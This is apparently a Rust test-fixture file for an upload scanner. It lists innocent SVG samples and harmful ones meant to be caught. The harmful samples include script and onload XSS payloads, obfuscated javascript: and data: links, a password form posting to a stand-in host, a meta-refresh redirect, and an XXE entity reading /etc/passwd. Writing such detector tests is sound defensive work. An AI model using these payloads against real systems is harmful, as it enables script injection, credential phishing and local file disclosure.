//! SVG: what drawing programs export, and what attackers attach.

use super::Specimen;

const SVG: &str = "image/svg+xml";

fn svg(inside: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" \
            xmlns:xlink=\"http://www.w3.org/1999/xlink\" \
         width=\"200\" height=\"100\">{inside}</svg>\n"
    )
    .into_bytes()
}

/// Innocent, every one.
pub(super) fn innocent() -> Vec<Specimen> {
    let is = |like, name, file, inside: &str| Specimen::innocent(like, name, file, SVG, svg(inside));
    vec![
        is(&["SVG-0002", "SVG-0003"], "a plain SVG", "logo.svg", "<rect width=\"10\" height=\"10\" fill=\"#c00\"/>"),
        is(
            &["SVG-0001", "SVG-0003"],
            "an export of Inkscape",
            "drawing.svg",
            "<sodipodi:namedview xmlns:sodipodi=\"http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd\" \
                pagecolor=\"#ffffff\"/><metadata><rdf:RDF \
                xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"/></metadata><path d=\"M0 0L9 9\"/>",
        ),
        is(
            &["SVG-0001"],
            "text in a foreign object (draw.io)",
            "flow.svg",
            "<foreignObject width=\"9\" height=\"9\"><div \
            xmlns=\"http://www.w3.org/1999/xhtml\">Start</div></foreignObject>",
        ),
        is(
            &["SVG-0001", "SVG-0002"],
            "a link to the own site",
            "badge.svg",
            "<a href=\"https://www.example.com/\"><text>home</text></a>",
        ),
        is(
            &["SVG-0001", "SVG-0002"],
            "a link with an ampersand and an accent",
            "badge2.svg",
            "<a href=\"https://www.example.com/?a=1&amp;b=&#233;\"><text>home</text></a>",
        ),
        is(
            &["SVG-0001"],
            "a font that is imported",
            "font.svg",
            "<style>@import \
            url('https://fonts.example.com/css?family=Roboto');</style><text>a</text>",
        ),
        is(
            &["SVG-0002"],
            "a picture inside",
            "photo.svg",
            "<image xlink:href=\"data:image/png;base64,iVBORw0KGgo=\" width=\"9\" \
            height=\"9\"/>",
        ),
        is(
            &["SVG-0001"],
            "a picture from elsewhere",
            "remote.svg",
            "<image href=\"https://cdn.example.com/a.png\" width=\"9\" \
            height=\"9\"/>",
        ),
        is(
            &["SVG-0001", "SVG-0002"],
            "a symbol that is used",
            "use.svg",
            "<defs><symbol id=\"a\"><circle r=\"3\"/></symbol></defs><use \
            href=\"#a\"/>",
        ),
        is(
            &["SVG-0001", "SVG-0003"],
            "an animation",
            "spin.svg",
            "<circle r=\"3\"><animate attributeName=\"r\" from=\"1\" to=\"3\" dur=\"1s\" \
            onset=\"0\"/></circle>"
                .replace(" onset=\"0\"", "")
                .as_str(),
        ),
        is(
            &["SVG-0001", "SVG-0003"],
            "the word script in a text",
            "word.svg",
            "<text>Script: the onload handler explained, javascript: and \
            more</text>",
        ),
        Specimen::innocent(
            &["SVG-0001", "SVG-0003"],
            "Illustrator's document type",
            "ai.svg",
            SVG,
            b"<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG \
                1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg \
                xmlns=\"http://www.w3.org/2000/svg\"><g/></svg>"
                .to_vec(),
        ),
        Specimen::innocent(
            &["SVG-0001"],
            "an SVG that is cut off",
            "cut.svg",
            SVG,
            svg("<g><path d=\"M0 0")[..165].to_vec(),
        ),
        is(
            &["SVG-0001"],
            "a diagram of draw.io with links between its pages",
            "pages.svg",
            "<switch><foreignObject width=\"9\" height=\"9\" \
                requiredFeatures=\"http://www.w3.org/TR/SVG11/feature#Extensibility\"><div \
                xmlns=\"http://www.w3.org/1999/xhtml\"><b>Start</b><br/>here</div></foreignObject><text>Start\
                </text></switch><a xlink:href=\"data:page/id,2\"><text>next page</text></a>",
        ),
        is(
            &["SVG-0003"],
            "the words foreign object in a text",
            "lesson.svg",
            "<text>foreignObject shows a page in a drawing</text><!-- <foreignObject> -->",
        ),
        is(
            &["SVG-0002"],
            "a gradient that is used",
            "gradient.svg",
            "<defs><linearGradient id=\"g\"/></defs><rect width=\"9\" height=\"9\" fill=\"url(#g)\"/>",
        ),
    ]
}

/// Harmful, every one.
pub(super) fn harmful() -> Vec<Specimen> {
    let is = |name, file, inside: &str| Specimen::harmful(name, file, SVG, svg(inside), "svg-active");
    vec![
        is("a script", "invoice.svg", "<script>location.href='https://example.invalid/'</script>"),
        is(
            "a script in CDATA",
            "invoice2.svg",
            "<script \
            type=\"text/javascript\"><![CDATA[eval(atob('YWxlcnQoMSk='))]]></script>",
        ),
        is("a handler", "voicemail.svg", "<rect width=\"9\" height=\"9\" onload=\"alert(1)\"/>"),
        is("a link that runs", "doc.svg", "<a xlink:href=\"java&#x09;script:alert(1)\"><text>open</text></a>"),
        is(
            "a link to a page in \
            itself",
            "doc2.svg",
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\"><text>open</text></a>",
        ),
        is(
            "a link behind character \
            references",
            "doc3.svg",
            "<a href=\"&#104;&#116;&#116;&#112;&#115;&#58;//example.invalid/\"><text>open</text></a>",
        ),
        is(
            "a form in a foreign object",
            "login.svg",
            "<foreignObject width=\"9\" height=\"9\"><form \
            xmlns=\"http://www.w3.org/1999/xhtml\" action=\"https://example.invalid/\"><input \
            name=\"password\"/></form></foreignObject>",
        ),
        is(
            "an animation that sets a link",
            "anim.svg",
            "<a><animate attributeName=\"href\" \
            values=\"javascript:alert(1)\"/><text>open</text></a>",
        ),
        is(
            "an element that moves on",
            "refresh.svg",
            "<meta http-equiv=\"refresh\" \
            content=\"0;url=https://example.invalid/\"/>",
        ),
        Specimen::harmful(
            "entities",
            "xxe.svg",
            SVG,
            b"<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><svg \
                xmlns=\"http://www.w3.org/2000/svg\"><text>&a;</text></svg>"
                .to_vec(),
            "svg-active",
        ),
        Specimen::harmful(
            "a script before the XML \
            breaks",
            "broken.svg",
            SVG,
            svg("<script>alert(1)</script><g></rect")[..].to_vec(),
            "svg-active",
        ),
    ]
}
